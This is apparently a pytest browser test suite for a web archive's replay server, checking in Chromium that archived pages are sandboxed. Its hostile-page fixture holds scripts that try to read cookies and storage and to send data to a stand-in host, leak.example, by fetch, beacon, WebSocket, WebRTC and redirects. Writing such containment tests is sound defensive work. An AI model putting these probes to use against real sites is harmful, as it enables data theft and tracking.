"""What a person sees of the replay server in Chromium, and what archived pages cannot do there."""

from __future__ import annotations

import shutil
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING

import pytest
import uvicorn

from archiver.index.interface import StoryEntry
from archiver.replay.addresses import story_path
from archiver.replay.app import make_app
from archiver.replay.server import address_of, listen
from tests.replay.shelf import FIRST, NOW, PAGE, PNG, STORY, make_shelf

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Locator, Page

pytestmark = pytest.mark.browser

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
QUIET = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

# Each probe writes what it got into the page; the test reads that.
EVIL = """<!DOCTYPE html><html><head><title>evil</title>
<link rel="dns-prefetch" href="//leak.example"><link rel="stylesheet" href="http://leak.example/a.css"></head><body>
<p id="out"></p><img src="http://leak.example/a.png">
<a id="away" href="http://leak.example/away" target="_blank">away</a>
<script>
const out = document.querySelector("#out"), say = (name, text) => { out.append(name + "=" + text + ";"); };
const probe = (name, action) => { try { say(name, action()); } catch (error) { say(name, "refused"); } };
probe("cookie", () => document.cookie);
probe("storage", () => localStorage.length);
probe("top", () => parent.document.title);
probe("topnav", () => { top.location = "http://leak.example/top"; return "asked"; });
probe("open", () => window.open("http://leak.example/open") ? "opened" : "refused");
probe("socket", () => { new WebSocket("ws://leak.example/"); return "asked"; });
probe("beacon", () => navigator.sendBeacon("http://leak.example/beacon", "x"));
new Image().src = "http://leak.example/image.png";
fetch("http://leak.example/fetch").catch(() => say("fetch", "refused"));
fetch("/").then((answer) => answer.text()).then((text) => say("home", "read")).catch(() => say("home", "refused"));
probe("worker", () => { navigator.serviceWorker.register("/w/sw.js"); return "asked"; });
probe("rtc", () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:leak.example" }] });
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  return "asked";
});
say("done", "yes");
</script></body></html>"""

FLEEING = """<!DOCTYPE html><html><body><script>location.href = "http://leak.example/flee";</script></body></html>"""

FONT = """<!DOCTYPE html><html><body><p id="out">waiting</p><script type="module">
import { word } from "./word.js";
const answer = await fetch("./data.json");
document.querySelector("#out").textContent = word + (await answer.json()).word;
</script></body></html>"""


def appears(locator: Locator) -> bool:
    """Wait until the element is seen, for a page that was asked for comes in its own time; a timeout raises."""
    locator.wait_for(state="visible")
    return locator.is_visible()


class Trap:
    """Listens where the browser finds every host name; what connects there has left the archive."""

    def __init__(self) -> None:
        self.caught: list[bytes] = []
        self._listener = listen("127.0.0.1", 0)
        self.port: int = self._listener.getsockname()[1]
        self._thread = threading.Thread(target=self._run)
        self._thread.start()

    def _run(self) -> None:
        while True:
            connection, _ = self._listener.accept()
            with connection:
                connection.settimeout(1)
                try:
                    said = connection.recv(200)
                except TimeoutError:
                    said = b""
            if said == b"END":
                return
            # Chromium opens a connection before it asks the frame's policy whether a script may navigate there, and
            # leaves it unused when it may not (seen with Chromium 156); what counts is that nothing is asked.
            if said:
                self.caught.append(said)

    def close(self) -> None:
        """Stop listening."""
        with socket.create_connection(("127.0.0.1", self.port)) as connection:
            connection.sendall(b"END")
        self._thread.join()
        self._listener.close()


@dataclass
class Stand:
    """The served archive, a browser, and the trap for what leaves."""

    address: str
    browser: Browser
    ids: dict[str, str]
    trap: Trap

    def open(self, path: str, *, scripts: bool = True, width: int = 1280) -> Page:
        """Return a page of the archive, opened in a context of its own."""
        context = self.browser.new_context(java_script_enabled=scripts, viewport={"width": width, "height": 844})
        page = context.new_page()
        page.goto(self.address + path)
        return page


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    """A trap that stays for the module's tests."""
    made = Trap()
    yield made
    made.close()


@pytest.fixture(scope="module")
def browser(trap: Trap) -> Iterator[Browser]:
    """Chromium, to which every host name means the trap."""
    if CHROMIUM is None:
        pytest.skip("no Chromium on the PATH")
    api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    rules = f"--host-resolver-rules=MAP *.example 127.0.0.1:{trap.port}"
    with api.sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=CHROMIUM, args=[*QUIET, rules])
        yield running
        running.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, dict[str, str]]]:
    """An archive on a free loopback port, in a thread, until the module's tests are done."""
    shelf = make_shelf(tmp_path_factory.mktemp("browser") / "reading room")
    ids = {
        "first": shelf.add("http://news.example/", PAGE % "First."),
        "second": shelf.add("http://news.example/", PAGE % "Second.", when=FIRST.replace(year=2025)),
        "story": shelf.add("http://news.example/story", STORY),
        "logo": shelf.add("http://news.example/logo.png", PNG, "image/png"),
        "style": shelf.add("http://news.example/style.css", "h1{color:rgb(1, 2, 3)}", "text/css"),
        "evil": shelf.add("http://evil.example/", EVIL),
        "flee": shelf.add("http://evil.example/flee", FLEEING),
        "module": shelf.add("http://app.example/", FONT),
        "word": shelf.add("http://app.example/word.js", "export const word = 'good ';", "text/javascript"),
        "data": shelf.add("http://app.example/data.json", '{"word": "day"}', "application/json"),
    }
    archive = shelf.finish()
    archive.catalogue.add(
        [
            StoryEntry(
                ids["story"],
                "http://news.example/story",
                "纸张的寿命",
                "拾页新闻",
                "2024-05-05",
                "",
                "zh-CN",
                "article",
            )
        ]
    )
    listener: socket.socket = listen("127.0.0.1", 0)
    address = address_of(listener)
    app = make_app(archive, base_url=address, clock=lambda: NOW)
    server = uvicorn.Server(uvicorn.Config(app, log_config=None, lifespan="off", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]})
    thread.start()
    yield address, ids
    server.should_exit = True
    thread.join()
    listener.close()
    archive.close()


@pytest.fixture
def stand(served: tuple[str, dict[str, str]], browser: Browser, trap: Trap) -> Iterator[Stand]:
    """A stand whose browser contexts are closed after the test."""
    made = Stand(served[0], browser, served[1], trap)
    yield made
    for context in browser.contexts:
        context.close()


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no-scripts"])
def test_a_reader_goes_from_the_list_to_the_story_and_to_the_page(stand: Stand, scripts: bool) -> None:
    page = stand.open("/", scripts=scripts)
    page.get_by_role("link", name="纸张的寿命").click()
    assert appears(page.get_by_role("heading", name="纸张的寿命", level=1))
    assert appears(page.get_by_text("Digest verified."))
    assert appears(page.get_by_role("heading", name="Evidence"))
    page.get_by_role("navigation", name="Views of this capture").get_by_role("link", name="Page").click()
    frame = page.frame_locator("iframe")
    assert appears(frame.get_by_role("heading", name="纸张的寿命"))
    assert appears(page.get_by_text("6 May 2024, 10:00:00 UTC"))
    assert stand.trap.caught == []


def test_a_framed_page_has_its_own_style_and_images(stand: Stand) -> None:
    page = stand.open("/page/20240506100000/http://news.example/")
    heading = page.frame_locator("iframe").get_by_role("heading", name="The front page")
    assert heading.evaluate("node => getComputedStyle(node).color") == "rgb(1, 2, 3)"
    logo = page.frame_locator("iframe").get_by_alt_text("a logo")
    assert logo.evaluate("node => node.complete && node.naturalWidth") == 1


def test_modules_and_fetch_load_from_the_archive_inside_the_sandbox(stand: Stand) -> None:
    page = stand.open("/page/http://app.example/")
    page.frame_locator("iframe").get_by_text("good day").wait_for()
    assert stand.trap.caught == []


def test_a_reader_steps_through_the_captures(stand: Stand) -> None:
    page = stand.open("/page/20240506100000/http://news.example/")
    page.get_by_role("link", name="Next capture").click()
    assert appears(page.frame_locator("iframe").get_by_text("Second."))
    page.get_by_role("link", name="First capture").click()
    assert appears(page.frame_locator("iframe").get_by_text("First."))


def test_the_bar_follows_links_inside_the_page(stand: Stand) -> None:
    page = stand.open("/page/20240506100000/http://news.example/")
    page.frame_locator("iframe").get_by_role("link", name="The story").click()
    page.wait_for_url("**/page/20240506100000/http://news.example/story")
    assert appears(page.frame_locator("iframe").get_by_role("heading", name="纸张的寿命"))


def test_a_link_out_of_the_archive_ends_on_the_page_that_says_so(stand: Stand) -> None:
    page = stand.open("/page/20240506100000/http://news.example/")
    page.frame_locator("iframe").get_by_role("link", name="elsewhere").click()
    page.get_by_role("heading", name="Not in this archive").wait_for()
    assert appears(page.get_by_text("archiver capture http://other.example/"))
    assert stand.trap.caught == []


def test_a_hostile_page_reaches_neither_the_archives_pages_nor_the_web(stand: Stand) -> None:
    page = stand.open("/page/http://evil.example/")
    frame = page.frame_locator("iframe")
    frame.get_by_text("home=").wait_for()
    frame.get_by_text("fetch=").wait_for()
    out = frame.locator("#out").inner_text()
    found = dict(part.split("=", 1) for part in out.split(";") if part)
    assert found["done"] == "yes"
    for name in ("cookie", "storage", "top", "topnav", "open", "fetch", "home", "worker", "rtc"):
        assert found[name] == "refused", (name, found)
    frame.get_by_role("link", name="away").click()
    page.get_by_role("heading", name="Not in this archive").wait_for()
    assert len(page.context.pages) == 1
    assert stand.trap.caught == []


@pytest.mark.parametrize("path", ["/page/http://evil.example/flee", "/w/20240506100000mp_/http://evil.example/flee"])
def test_a_page_that_goes_to_the_web_by_itself_does_not_get_there(stand: Stand, path: str) -> None:
    page = stand.open(path)
    page.wait_for_load_state("networkidle")
    assert page.url.startswith(f"{stand.address}/page/")
    assert stand.trap.caught == []


@pytest.mark.parametrize("width", [1280, 390], ids=["desktop", "phone"])
@pytest.mark.parametrize("name", ["home", "story", "page", "captures", "missing", "problem"])
def test_no_page_is_wider_than_its_window(stand: Stand, name: str, width: int) -> None:
    long = "/long/" + "x" * 300
    paths = {
        "home": "/",
        "story": story_path(stand.ids["story"]),
        "page": "/page/http://news.example/",
        "captures": "/captures/http://news.example/",
        "missing": f"/page/http://news.example{long}",
        "problem": "/page/99991399/http://news.example/",
    }
    page = stand.open(paths[name], width=width)
    assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") == 0


def test_our_own_pages_break_none_of_their_own_rules(stand: Stand) -> None:
    for path in ("/", story_path(stand.ids["story"]), "/captures/http://news.example/", "/search?url=zzz"):
        page = stand.open("/static/mark.svg")
        with page.expect_event("load"):
            page.goto(stand.address + path)
        assert [message.text for message in page.console_messages()] == [], path
